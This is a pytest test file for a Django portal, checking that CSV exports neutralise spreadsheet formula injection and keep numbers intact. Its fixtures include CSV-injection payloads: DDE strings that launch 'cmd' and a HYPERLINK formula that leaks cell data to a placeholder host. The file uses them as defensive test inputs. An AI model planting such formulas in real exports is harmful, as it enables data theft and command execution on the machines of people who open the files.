"""CSV formula injection (issue 10, item 10): no cell of any CSV export starts a formula when
a spreadsheet opens it; numbers stay numbers. portal.exports is the one helper."""

import ast
import csv
import datetime
import io
import json
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from django.utils import timezone

from portal.exports import FORMULA_STARTS, csv_lines, spreadsheet_safe
from predictions.models import Prediction
from reviews.models import Review, ReviewCampaign, ReviewItem, ReviewSlot
from reviews.selectors import CORRECTION_COLUMNS
from tests.factories import UserFactory, make_version

HYPERLINK = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1, "Click for details")'
PAYLOADS = {  # one per way of starting a formula
    "request_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "segment": HYPERLINK,
    "version": '+HYPERLINK("http://127.0.0.1:9/")',
    "prediction": HYPERLINK,
    "other_version": "-2+3+cmd|' /C calc'!A0",
    "other_prediction": '+1+HYPERLINK("http://127.0.0.1:9/")',
    "corrected_value": HYPERLINK,
    "comment": "\t=1+1",
    "reviewer": "@evil",
}


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("\n=1", "'\n=1"),
        ("  =1+1", "'  =1+1"),  # leading spaces, which a spreadsheet may strip
        ("'=1+1", "'=1+1"),  # already quoted: shown as the text it is
        ("fine = ok", "fine = ok"),
        ("", ""),
        (None, ""),
        (-1.5, -1.5),  # a real number is never a formula
        (-3, -3),
        (Decimal("-2.50"), Decimal("-2.50")),
        ("-1.5", "-1.5"),  # text that is exactly a number reads as that number
        ("+3", "+3"),
        ("-1e-3", "-1e-3"),
        (True, "true"),
        ({"a": "=1"}, '{"a":"=1"}'),
        (["=1", 2], '["=1",2]'),
        (datetime.date(2026, 1, 2), "2026-01-02"),
    ],
)
def test_spreadsheet_safe_neutralises_formulas_and_keeps_numbers(value, cell):
    assert spreadsheet_safe(value) == cell


def test_csv_lines_quote_the_header_too():
    lines = list(csv_lines(["=id", "name"], [["=1+1", -2.5]]))
    assert lines == ["'=id,name\r\n", "'=1+1,-2.5\r\n"]


@pytest.fixture
def hostile_campaign(use_case, personas):
    """A pairwise campaign whose one review carries a formula in every free-text column, as
    API clients (request ids, segments, versions, class names) and reviewers could send."""
    version = make_version(use_case, PAYLOADS["version"], personas["owner"])
    other = make_version(use_case, PAYLOADS["other_version"], personas["owner"])
    reviewer = UserFactory(username="evil-reviewer", first_name=PAYLOADS["reviewer"])
    now = timezone.now()
    shared = {"use_case": use_case, "predicted_at": now, "random_key": 0.5, "score": -0.25}
    prediction = Prediction.objects.create(
        model_version=version,
        request_id=PAYLOADS["request_id"],
        features={"store": "=S01"},
        prediction=PAYLOADS["prediction"],
        segment=PAYLOADS["segment"],
        outcome=-1.5,
        **shared,
    )
    other_prediction = Prediction.objects.create(
        model_version=other,
        request_id=PAYLOADS["request_id"],
        features={},
        prediction=PAYLOADS["other_prediction"],
        **shared,
    )
    campaign = ReviewCampaign.objects.create(
        use_case=use_case,
        name="=HYPERLINK campaign",
        model_version=version,
        other_version=other,
        mode=ReviewCampaign.Mode.PAIRWISE,
        sample_size=1,
        item_count=1,
        reason_tags=["=tag"],
        created_by=personas["owner"],
    )
    item = ReviewItem.objects.create(
        campaign=campaign, position=0, prediction=prediction, other_prediction=other_prediction
    )
    slot = ReviewSlot.objects.create(campaign=campaign, item=item, position=0, done=True)
    Review.objects.create(
        campaign=campaign,
        item=item,
        slot=slot,
        reviewer=reviewer,
        preference=Review.Preference.A,
        preferred_version=version,
        corrected_value=PAYLOADS["corrected_value"],
        reason_tags=["=tag"],
        comment=PAYLOADS["comment"],
        seconds_spent=3.0,
    )
    return campaign


def exported_row(response) -> dict[str, str]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == 1
    assert list(rows[0]) == list(CORRECTION_COLUMNS)
    return rows[0]


def assert_no_formula(row: dict[str, str]) -> None:
    for column, cell in row.items():
        number = cell.lstrip("+-").replace(".", "", 1).isdigit()
        assert number or not cell.lstrip(" ").startswith(FORMULA_STARTS), (column, cell)


@pytest.mark.django_db
def test_the_corrections_download_neutralises_a_formula_in_every_text_column(
    client, personas, hostile_campaign
):
    client.force_login(personas["viewer"])
    slug = hostile_campaign.use_case.slug
    url = reverse("reviews:corrections_csv", args=[slug, hostile_campaign.pk])
    row = exported_row(client.get(url))
    for column in ("request_id", "segment", "prediction", "other_prediction", "comment"):
        assert row[column] == "'" + PAYLOADS[column], column
    assert row["version"] == row["preferred_version"] == "'" + PAYLOADS["version"]
    assert row["other_version"] == "'" + PAYLOADS["other_version"]
    assert row["corrected_value"] == "'" + PAYLOADS["corrected_value"]
    assert row["reviewer"].startswith("'@evil")
    assert json.loads(row["features"]) == {"store": "=S01"}  # JSON starts with {, not a formula
    assert json.loads(row["reason_tags"]) == ["=tag"]
    assert (row["score"], row["outcome"]) == ("-0.25", "-1.5")  # numbers stay numbers
    assert_no_formula(row)


@pytest.mark.django_db
def test_the_corrections_api_csv_neutralises_formulas_too(api, hostile_campaign):
    slug = hostile_campaign.use_case.slug
    url = f"/api/v1/usecases/{slug}/review-campaigns/{hostile_campaign.pk}/corrections"
    row = exported_row(api("viewer").get(url + "?format=csv"))
    assert row["segment"] == "'" + HYPERLINK
    assert row["corrected_value"] == "'" + HYPERLINK
    assert_no_formula(row)


# Later exports too: a CSV is written by portal.exports only.

ROOT = Path(__file__).resolve().parent.parent
APPS = ("portal", "tables", "usecases", "registry", "predictions", "reviews", "demo")
WRITES_UPLOADS = {"demo/management/commands/_demo_data.py"}  # builds the demo's input files


def csv_writers(tree: ast.AST) -> list[int]:
    """Lines that make a csv writer or answer with a text/csv content type."""
    lines = []
    for node in ast.walk(tree):
        if not isinstance(node, ast.Call):
            continue
        function = node.func
        if (
            isinstance(function, ast.Attribute)
            and function.attr in ("writer", "DictWriter")
            and isinstance(function.value, ast.Name)
            and function.value.id == "csv"
        ):
            lines.append(node.lineno)
        for keyword in node.keywords:
            value = keyword.value
            if (
                keyword.arg == "content_type"
                and isinstance(value, ast.Constant)
                and str(value.value).startswith("text/csv")
            ):
                lines.append(node.lineno)
    return lines


def test_every_csv_download_is_written_by_portal_exports():
    found = {}
    for app in APPS:
        for path in sorted((ROOT / app).rglob("*.py")):
            name = str(path.relative_to(ROOT))
            if name in WRITES_UPLOADS or name == "portal/exports.py":
                continue
            if lines := csv_writers(ast.parse(path.read_text())):
                found[name] = lines
    assert found == {}, "write CSV through portal.exports (csv_response / csv_lines)"


def test_the_writer_check_sees_both_ways_of_writing_a_csv():
    code = 'w = csv.writer(out)\nHttpResponse(body, content_type="text/csv; charset=utf-8")'
    assert csv_writers(ast.parse(code)) == [1, 2]
